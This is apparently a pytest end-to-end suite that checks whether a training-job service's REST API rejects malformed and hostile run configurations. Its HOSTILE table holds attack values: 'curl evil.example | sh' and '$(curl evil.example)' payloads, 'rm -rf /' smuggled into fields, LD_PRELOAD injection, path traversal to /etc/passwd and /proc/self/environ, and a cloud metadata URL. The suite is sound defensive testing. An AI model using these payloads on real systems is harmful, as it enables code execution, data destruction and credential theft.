"""Malformed and hostile confs through the REST API: each ends as HTTP 400 or a failed ``validate``
naming the field, and nothing is reserved, copied or provisioned."""

from __future__ import annotations

import json
import math
import os
from urllib.parse import quote

import pytest

from sailor_tasks.cli.airflow_api import AirflowAPIError
from sailor_tasks.ledger import Ledger
from tests.e2e.conftest import RUN_TIMEOUT_S, TINY

pytestmark = pytest.mark.e2e

TRACE, DATA = "preemption_trace_uri", "dataset_uri"

HOSTILE: dict[str, tuple[dict, str]] = {
    # wrong types
    "workers-as-text": ({"num_workers": "two"}, "num_workers"),
    "workers-as-bool": ({"num_workers": True}, "num_workers"),
    "steps-as-float": ({"total_steps": 1.5}, "total_steps"),
    "price-as-text": ({"max_usd_per_hour": "cheap"}, "max_usd_per_hour"),
    "regions-as-string": ({"regions": "us-central1"}, "regions"),
    "job-name-null": ({"job_name": None}, "job_name"),
    "seed-as-object": ({"seed": {"$gt": 0}}, "seed"),
    # out-of-range numbers
    "zero-workers": ({"num_workers": 0}, "num_workers"),
    "too-many-workers": ({"num_workers": 10**9}, "num_workers"),
    "negative-steps": ({"total_steps": -5}, "total_steps"),
    "negative-price": ({"max_usd_per_hour": -1}, "max_usd_per_hour"),
    "zero-learning-rate": ({"learning_rate": 0}, "learning_rate"),
    "huge-batch": ({"batch_size": 10**12}, "batch_size"),
    "negative-seed": ({"seed": -1}, "seed"),
    "zero-checkpoint-interval": ({"checkpoint_every_steps": 0}, "checkpoint_every_steps"),
    "checkpoint-after-end": ({"checkpoint_every_steps": 500, "total_steps": 40}, "checkpoint_every_steps"),
    "price-below-cheapest-offer": ({"max_usd_per_hour": 0.0001}, "max_usd_per_hour"),
    # unknown regions / GPU types / enums
    "unknown-region": ({"regions": ["mars-north1"]}, "regions"),
    "no-regions": ({"regions": []}, "regions"),
    "duplicate-regions": ({"regions": ["us-central1", "us-central1"]}, "regions"),
    "unknown-gpu": ({"gpu_type": "TPU-v9"}, "gpu_type"),
    "unknown-model": ({"model": "gpt-5"}, "model"),
    "unknown-market": ({"market": "black_market"}, "market"),
    # dataset URIs: traversal, other schemes, paths outside the data folders
    "traversal-sailor": ({"dataset_uri": "sailor://source/../../etc"}, "dataset_uri"),
    "traversal-gs": ({"dataset_uri": "gs://other-bucket/data/../../secrets"}, "dataset_uri"),
    "file-outside-data-folders": ({"dataset_uri": "file:///etc"}, "dataset_uri"),
    "file-relative": ({"dataset_uri": "file://etc/passwd"}, "dataset_uri"),
    "scheme-http-metadata": ({"dataset_uri": "http://169.254.169.254/computeMetadata/v1"}, "dataset_uri"),
    "scheme-s3": ({"dataset_uri": "s3://bucket/data"}, "dataset_uri"),
    "unknown-bucket": ({"dataset_uri": "sailor://attacker/datasets/x"}, "dataset_uri"),
    "missing-dataset": ({"dataset_uri": "sailor://source/datasets/does-not-exist"}, "dataset_uri"),
    "uri-with-shell": ({"dataset_uri": "sailor://source/x;rm -rf /"}, "dataset_uri"),
    # injection attempts: image, command, env, shell in names
    "image-override": ({"image": "attacker/miner:latest"}, "image"),
    "command-override": ({"command": ["sh", "-c", "curl evil.example | sh"]}, "command"),
    "env-injection": ({"env": {"LD_PRELOAD": "/tmp/evil.so"}}, "env"),
    "backend-shell": ({"backend": "local; rm -rf /"}, "backend"),
    "job-name-shell": ({"job_name": "x$(curl evil.example)"}, "job_name"),
    "team-traversal": ({"team": "../../etc"}, "team"),
    "job-name-newline": ({"job_name": "ok\n--privileged"}, "job_name"),
    # huge strings
    "huge-job-name": ({"job_name": "a" * 100_000}, "job_name"),
    "huge-dataset-uri": ({"dataset_uri": "sailor://source/" + "a" * 5000}, "dataset_uri"),
    "huge-unknown-value": ({"notes": "A" * 200_000}, "notes"),
    # availability traces: only small regular files in the allowed places, never read unbounded
    "trace-dev-zero": ({"preemption_trace_uri": "file:///dev/zero"}, TRACE),
    "trace-dev-urandom": ({"preemption_trace_uri": "file:///dev/urandom"}, TRACE),
    "trace-proc-environ": ({"preemption_trace_uri": "file:///proc/self/environ"}, TRACE),
    "trace-etc-passwd": ({"preemption_trace_uri": "file:///etc/passwd"}, TRACE),
    "trace-traversal": ({"preemption_trace_uri": "file:///tmp/../etc/passwd"}, TRACE),
    "trace-fifo": ({"preemption_trace_uri": "file://{hostile}/pipe.json"}, TRACE),
    "trace-link-to-dev-zero": ({"preemption_trace_uri": "file://{hostile}/zero.json"}, TRACE),
    "trace-over-size-cap": ({"preemption_trace_uri": "file://{hostile}/big.json"}, TRACE),
    "trace-folder": ({"preemption_trace_uri": "file://{hostile}"}, TRACE),
    "trace-not-json": ({"preemption_trace_uri": "file://{hostile}/not-json.json"}, TRACE),
    "trace-ledger": ({"preemption_trace_uri": "file://{state}/ledger.db"}, TRACE),
    "trace-other-run": ({"preemption_trace_uri": "file://{other_run}/train_config.json"}, TRACE),
    "trace-gs-foreign": ({"preemption_trace_uri": "gs://someone-else/trace.json"}, TRACE),
    "trace-sailor-scheme": ({"preemption_trace_uri": "sailor://source/trace.json"}, TRACE),
    "trace-newline": ({"preemption_trace_uri": "\n"}, TRACE),
    # datasets: never the state folder, a whole bucket, run folders or a foreign gs:// bucket
    "file-state-folder": ({"dataset_uri": "file://{state}"}, DATA),
    "file-ledger": ({"dataset_uri": "file://{state}/ledger.db"}, DATA),
    "file-cluster-records": ({"dataset_uri": "file://{state}/clusters"}, DATA),
    "file-every-bucket": ({"dataset_uri": "file://{state}/buckets"}, DATA),
    "file-whole-source-bucket": ({"dataset_uri": "file://{state}/buckets/source"}, DATA),
    "file-other-run": ({"dataset_uri": "file://{other_run}"}, DATA),
    "file-link-to-state": ({"dataset_uri": "file://{hostile}/state-link"}, DATA),
    "file-proc": ({"dataset_uri": "file:///proc/self"}, DATA),
    "sailor-other-run": ({"dataset_uri": "sailor://us-central1/runs/other-run"}, DATA),
    "sailor-runs-folder": ({"dataset_uri": "sailor://us-central1/runs"}, DATA),
    "sailor-source-runs": ({"dataset_uri": "sailor://source/runs/x"}, DATA),
    "sailor-whole-bucket": ({"dataset_uri": "sailor://us-central1"}, DATA),
    "gs-foreign-bucket": ({"dataset_uri": "gs://attacker-bucket/data"}, DATA),
    "gs-sailor-named-runs": ({"dataset_uri": "gs://sailor-demo-sailor-us-central1/runs/x"}, DATA),
    # patterns match whole strings: a trailing newline fails
    "job-name-trailing-newline": ({"job_name": "lm\n"}, "job_name"),
    "team-trailing-newline": ({"team": "qa\n"}, "team"),
    "dataset-uri-trailing-newline": ({"dataset_uri": "sailor://source/datasets/demo-text\n"}, DATA),
    # NaN and ±Infinity (Python's JSON, and so the REST API, parses them)
    "nan-learning-rate": ({"learning_rate": math.nan}, "learning_rate"),
    "inf-learning-rate": ({"learning_rate": math.inf}, "learning_rate"),
    "nan-price": ({"max_usd_per_hour": math.nan}, "max_usd_per_hour"),
    "inf-price": ({"max_usd_per_hour": math.inf}, "max_usd_per_hour"),
    "minus-inf-price": ({"max_usd_per_hour": -math.inf}, "max_usd_per_hour"),
    "nan-deadline": ({"deadline_hours": math.nan}, "deadline_hours"),
    "inf-deadline": ({"deadline_hours": math.inf}, "deadline_hours"),
    "nan-preemption-rate": ({"preemption_rate_per_hour": math.nan}, "preemption_rate_per_hour"),
    "inf-preemption-rate": ({"preemption_rate_per_hour": math.inf}, "preemption_rate_per_hour"),
    "nan-trace-time-scale": ({"preemption_trace_time_scale": math.nan}, "preemption_trace_time_scale"),
    "nan-notice": ({"preemption_notice_s": math.nan}, "preemption_notice_s"),
    "inf-notice": ({"preemption_notice_s": math.inf}, "preemption_notice_s"),
    "nan-workers": ({"num_workers": math.nan}, "num_workers"),
    "inf-steps": ({"total_steps": math.inf}, "total_steps"),
    "minus-inf-seed": ({"seed": -math.inf}, "seed"),
}


def _bucket_tree(state_dir: str) -> set[str]:
    out = set()
    for base, _dirs, files in os.walk(os.path.join(state_dir, "buckets")):
        out.update(os.path.join(base, f) for f in files)
    return out


def _hostile_files(state_dir: str) -> dict[str, str]:
    """Files a hostile conf points at, made before anything is submitted; returns the placeholders."""
    hostile = os.path.join(state_dir, "buckets", "source", "hostile")
    other_run = os.path.join(state_dir, "buckets", "us-central1", "runs", "other-run")
    for folder in (hostile, other_run):
        os.makedirs(folder, exist_ok=True)
    with open(os.path.join(other_run, "train_config.json"), "w") as f:
        f.write('{"secret": "another run"}')
    pipe = os.path.join(hostile, "pipe.json")
    if not os.path.exists(pipe):
        os.mkfifo(pipe)
    for name, target in (("zero.json", "/dev/zero"), ("state-link", state_dir)):
        if not os.path.lexists(os.path.join(hostile, name)):
            os.symlink(target, os.path.join(hostile, name))
    with open(os.path.join(hostile, "big.json"), "wb") as f:
        f.truncate(17 * 1024 * 1024)  # over the 16 MiB cap (sparse: no disk used)
    with open(os.path.join(hostile, "not-json.json"), "w") as f:
        f.write("{not json")
    return {"state": state_dir, "hostile": hostile, "other_run": other_run}


def _conf(conf: dict, places: dict[str, str]) -> dict:
    return {k: v.format(**places) if isinstance(v, str) and "{" in v else v for k, v in conf.items()}


def _trigger(client, conf: dict) -> dict:
    """``client.trigger``, but the body is encoded with Python's json, which writes NaN and Infinity
    as bare tokens (``requests`` refuses to), as a hand-written HTTP request could."""
    body = json.dumps({"logical_date": None, "conf": conf})
    return client.request(
        "POST",
        f"/api/v2/dags/{quote('sailor_train')}/dagRuns",
        ok=(200, 201),
        data=body,
        headers={"Content-Type": "application/json"},
    )


@pytest.fixture(scope="module")
def outcomes(stack, client):
    """Submit every conf at once; return name → ("http", status, detail) or ("run", run_id, state)."""
    places = _hostile_files(str(stack.state_dir))
    before = _bucket_tree(str(stack.state_dir))
    submitted: dict[str, tuple] = {}
    for name, (conf, _field) in HOSTILE.items():
        try:
            run = _trigger(client, {**TINY, **_conf(conf, places)})
        except AirflowAPIError as exc:
            submitted[name] = ("http", exc.status, str(exc.detail))
        else:
            submitted[name] = ("run", run["dag_run_id"], None)
    results = {}
    for name, (kind, ref, detail) in submitted.items():
        if kind == "run":
            results[name] = ("run", ref, client.wait("sailor_train", ref, timeout_s=RUN_TIMEOUT_S))
        else:
            results[name] = (kind, ref, detail)
    return {"results": results, "bucket_files_before": before}


def test_at_least_80_hostile_confs():
    assert len(HOSTILE) >= 80


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_conf_is_rejected_naming_the_field(stack, client, outcomes, name):
    _conf, field = HOSTILE[name]
    kind, ref, detail = outcomes["results"][name]
    if kind == "http":
        assert ref == 400, detail
        assert field in detail, detail
        return
    run_id, state = ref, detail
    tasks = {ti["task_id"]: ti["state"] for ti in client.task_instances("sailor_train", run_id)}
    assert state == "failed" and tasks["validate"] == "failed", tasks
    assert all(
        tasks[t] in ("upstream_failed", None, "skipped") for t in ("plan", "place_data", "provision", "train")
    ), tasks
    log = client.task_log("sailor_train", run_id, "validate")
    assert f"{field}=" in log, log[-3000:]
    ledger = Ledger(stack.settings().ledger_url)
    run = ledger.get_run(run_id)
    assert run["status"] == "rejected" and field in run["error"]
    assert len(run["error"]) < 4100  # huge values are cut, never stored whole
    assert ledger.placements(run_id) == []


def test_nothing_reserved_copied_or_provisioned(stack, outcomes):
    ledger = Ledger(stack.settings().ledger_url)
    rejected = [ref for kind, ref, _ in outcomes["results"].values() if kind == "run"]
    assert rejected, "some confs pass the schema and must be stopped by validate"
    assert all(ledger.placements(run_id) == [] for run_id in rejected)
    assert [r for r in ledger.live_reservations() if r.run_id in rejected] == []
    assert _bucket_tree(str(stack.state_dir)) == outcomes["bucket_files_before"]  # nothing copied
    clusters = stack.settings().clusters_dir
    records = os.listdir(clusters) if os.path.isdir(clusters) else []
    assert records == []  # nothing provisioned (earlier runs were torn down)
